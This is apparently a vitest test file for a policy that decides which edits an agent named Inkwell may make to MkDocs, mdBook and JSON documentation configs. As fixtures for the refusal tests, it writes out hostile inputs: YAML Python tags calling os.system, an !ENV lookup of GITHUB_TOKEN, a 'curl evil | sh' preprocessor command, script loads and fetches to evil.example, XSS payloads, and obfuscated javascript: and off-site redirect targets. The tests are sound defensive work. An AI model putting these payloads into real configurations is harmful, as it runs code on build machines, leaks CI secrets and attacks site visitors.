import { describe, expect, it } from "vitest";
import { checkConfigChange } from "../../../app/agent/workspace/config-policy.ts";

const refused = (path: string, before: string | undefined, after: string) => {
  const verdict = checkConfigChange(path, before, after);
  return verdict.allowed ? undefined : verdict.message;
};

const mkdocs = `site_name: Acme
theme:
  name: material
markdown_extensions:
  - pymdownx.emoji:
      emoji_index: !!python/name:material.extensions.emoji.twemoji
nav:
  - Home: index.md
  - Guides:
      - guides/install.md
`;

describe("mkdocs.yml: what makes MkDocs run code", () => {
  it.each([
    [
      "a verbatim Python tag",
      `${mkdocs}extra:\n  x: !<tag:yaml.org,2002:python/object/apply:os.system> ["id"]\n`,
    ],
    [
      "a %TAG directive shorthand",
      `%TAG !p! tag:yaml.org,2002:python/\n---\n${mkdocs}extra:\n  x: !p!object/apply:os.system ["id"]\n`,
    ],
    [
      "a Python tag inside nav",
      mkdocs.replace("- Home: index.md", "- Home: !!python/name:os.system"),
    ],
    [
      "an !ENV lookup, which puts CI secrets in the built site",
      `${mkdocs}site_description: !ENV [GITHUB_TOKEN]\n`,
    ],
    ["a tag on a key", `${mkdocs}? !!python/name:os.system\n: x\n`],
    ["hooks", `${mkdocs}hooks:\n  - evil.py\n`],
    ["INHERIT", `INHERIT: ../base.yml\n${mkdocs}`],
    ["external extra_javascript", `${mkdocs}extra_javascript:\n  - https://evil.example/x.js\n`],
    ["a plugin", mkdocs.replace("theme:", "plugins:\n  - macros\ntheme:")],
    [
      "a theme change",
      mkdocs.replace("name: material", "name: readthedocs\n  custom_dir: overrides"),
    ],
    [
      "hooks smuggled through an anchor and a merge key",
      `${mkdocs}x: &h\n  hooks: [evil.py]\n<<: *h\n`,
    ],
    ["a second document", `${mkdocs}---\nhooks: [evil.py]\n`],
  ])("refuses %s", (_, after) => {
    const message = refused("mkdocs.yml", mkdocs, after);
    expect(message).toMatch(/^Inkwell may not .* in mkdocs\.yml/);
    expect(message).toContain("`nav`, `site_name`, `site_description`");
  });

  it("refuses a navigation entry that runs script when followed", () => {
    const after = mkdocs.replace(
      "- Home: index.md",
      "- Home: index.md\n  - Login: 'javascript:fetch(`//evil.example`)'",
    );
    expect(refused("mkdocs.yml", mkdocs, after)).toContain('add the address "javascript:');
  });

  it("names the key path it refuses, at any depth", () => {
    expect(refused("mkdocs.yml", mkdocs, `${mkdocs}hooks:\n  - evil.py\n`)).toContain(
      "change `hooks.*`",
    );
    expect(refused("mkdocs.yml", mkdocs, `${mkdocs}site_description: !ENV X\n`)).toContain(
      "add the YAML tag !ENV",
    );
  });

  it("allows navigation, titles and redirects, and keeps the tags already there", () => {
    const after = mkdocs
      .replace("site_name: Acme", "site_name: Acme Docs")
      .replace(
        "      - guides/install.md",
        "      - guides/install.md\n      - Upgrading: guides/upgrade.md",
      )
      .replace("theme:", "site_description: Guides for Acme\ntheme:");
    expect(checkConfigChange("mkdocs.yml", mkdocs, after)).toEqual({ allowed: true });
    const withRedirects = `site_name: Acme\nplugins:\n  - search\n  - redirects:\n      redirect_maps:\n        old.md: index.md\n`;
    expect(
      checkConfigChange(
        "mkdocs.yml",
        withRedirects,
        withRedirects.replace("old.md: index.md", "old.md: index.md\n        older.md: index.md"),
      ),
    ).toEqual({ allowed: true });
  });

  it("judges moved list items by value, not position", () => {
    const after = mkdocs.replace(
      "  - Home: index.md\n  - Guides:\n      - guides/install.md\n",
      "  - Guides:\n      - guides/install.md\n  - Home: index.md\n",
    );
    expect(checkConfigChange("mkdocs.yml", mkdocs, after)).toEqual({ allowed: true });
  });
});

describe("book.toml: what makes mdBook run commands", () => {
  const book = '[book]\ntitle = "Acme"\n\n[output.html]\ndefault-theme = "light"\n';

  it.each([
    ["a preprocessor table", `${book}[preprocessor.x]\ncommand = "sh -c 'curl evil | sh'"\n`],
    ["a dotted key", `preprocessor.x.command = "sh evil.sh"\n${book}`],
    ["an inline table", `x = { command = "sh evil.sh" }\n${book}`],
    ["a quoted key", `${book}[output."evil"]\n"command" = "sh evil.sh"\n`],
    [
      "additional-js",
      book.replace('default-theme = "light"', 'additional-js = ["https://evil.example/x.js"]'),
    ],
  ])("refuses %s", (_, after) => {
    expect(refused("book.toml", book, after)).toMatch(/may change only `book\.title`/);
  });

  it("allows the title and redirects", () => {
    const after = book
      .replace('title = "Acme"', 'title = "Acme Docs"')
      .concat('\n[output.html.redirect]\n"/old.html" = "new.html"\n');
    expect(checkConfigChange("book.toml", book, after)).toEqual({ allowed: true });
  });
});

describe("docs.json and the other JSON navigation files", () => {
  const docs = JSON.stringify(
    { name: "Acme", theme: "mint", navigation: { groups: [{ group: "Start", pages: ["index"] }] } },
    null,
    2,
  );

  it("refuses a tag manager or any setting outside navigation, titles and redirects", () => {
    const gtm = JSON.parse(docs);
    gtm.integrations = { gtm: { tagId: "GTM-EVIL" } };
    expect(refused("docs.json", docs, JSON.stringify(gtm))).toContain("`integrations.gtm.tagId`");
    const theme = JSON.parse(docs);
    theme.theme = "maple";
    expect(refused("docs.json", docs, JSON.stringify(theme))).toBeDefined();
  });

  it("allows navigation and redirects", () => {
    const after = JSON.parse(docs);
    after.navigation.groups[0].pages.push("quickstart");
    after.redirects = [{ source: "/old", destination: "/quickstart" }];
    expect(checkConfigChange("docs.json", docs, JSON.stringify(after))).toEqual({ allowed: true });
  });

  it("refuses a raw HTML item in a Docusaurus sidebar", () => {
    const sidebars = JSON.stringify({ docs: ["intro"] });
    const html = JSON.stringify({
      docs: ["intro", { type: "html", value: "<script>x()</script>" }],
    });
    expect(refused("sidebars.json", sidebars, html)).toContain("`docs.*.value`");
    expect(
      checkConfigChange("sidebars.json", sidebars, JSON.stringify({ docs: ["intro", "setup"] })),
    ).toEqual({ allowed: true });
  });

  it("judges a new file as a change from nothing", () => {
    expect(
      checkConfigChange("guides/_category_.json", undefined, '{"label": "Guides", "position": 2}'),
    ).toEqual({
      allowed: true,
    });
    expect(
      refused("guides/_category_.json", undefined, '{"label": "Guides", "customProps": {"x": 1}}'),
    ).toContain("`customProps.x`");
  });

  it("refuses content that does not parse, with what to fix", () => {
    expect(refused("docs.json", docs, "{")).toContain("write JSON that does not parse");
    expect(refused("mkdocs.yml", mkdocs, "nav: [")).toContain("write YAML that does not parse");
  });
});

describe("what a navigation file shows and where its redirects lead", () => {
  const withRedirects = `site_name: Acme\nplugins:\n  - search\n  - redirects:\n      redirect_maps:\n        old.md: index.md\nnav:\n  - Home: index.md\n`;

  it.each([
    [
      "an image tag in a nav title",
      withRedirects.replace(
        "- Home: index.md",
        "- Home: index.md\n  - '<img src=x onerror=alert(1)>': setup.md",
      ),
    ],
    [
      "a script tag in the site name",
      withRedirects.replace("site_name: Acme", "site_name: Acme</title><script>x()</script>"),
    ],
    [
      "an HTML comment in a section title",
      withRedirects.replace("- Home: index.md", "- '<!-- hide': index.md"),
    ],
  ])("refuses %s in mkdocs.yml", (_, after) => {
    expect(refused("mkdocs.yml", withRedirects, after)).toMatch(/which holds HTML/);
  });

  it.each([
    ["another origin", "https://evil.example/login"],
    ["a protocol-relative host", "//evil.example/login"],
    ["a backslashed host", "/\\evil.example"],
    ["a script address with a tab in its scheme", "java\tscript:alert(1)"],
    ["a script address in character references", "&#106;avascript:alert(1)"],
  ])("refuses a redirect to %s, in each format that has redirects", (_, target) => {
    const yamlTarget = JSON.stringify(target);
    expect(
      refused(
        "mkdocs.yml",
        withRedirects,
        withRedirects.replace("old.md: index.md", `old.md: ${yamlTarget}`),
      ),
    ).toMatch(/leaves the site|runs script/);
    const book = '[book]\ntitle = "Acme"\n';
    expect(
      refused(
        "book.toml",
        book,
        `${book}\n[output.html.redirect]\n"/old.html" = ${JSON.stringify(target)}\n`,
      ),
    ).toMatch(/leaves the site|runs script/);
    for (const file of ["docs.json", "mint.json"]) {
      const before = JSON.stringify({ name: "Acme", redirects: [] });
      const after = JSON.stringify({
        name: "Acme",
        redirects: [{ source: "/old", destination: target }],
      });
      expect(refused(file, before, after)).toMatch(/leaves the site|runs script/);
    }
  });

  it("keeps redirects within the site, and an external one the file already had", () => {
    const external = withRedirects.replace("old.md: index.md", "old.md: https://archive.acme.dev/");
    expect(
      checkConfigChange(
        "mkdocs.yml",
        external,
        external.replace("nav:", "site_description: Acme's guides\nnav:"),
      ),
    ).toEqual({ allowed: true });
    expect(
      checkConfigChange(
        "docs.json",
        "{}",
        JSON.stringify({ redirects: [{ source: "/a", destination: "/b" }] }),
      ),
    ).toEqual({ allowed: true });
    expect(
      checkConfigChange(
        "mkdocs.yml",
        withRedirects,
        withRedirects.replace("- Home: index.md", "- 'Home & <3 setup': index.md"),
      ),
    ).toEqual({ allowed: true });
  });
});
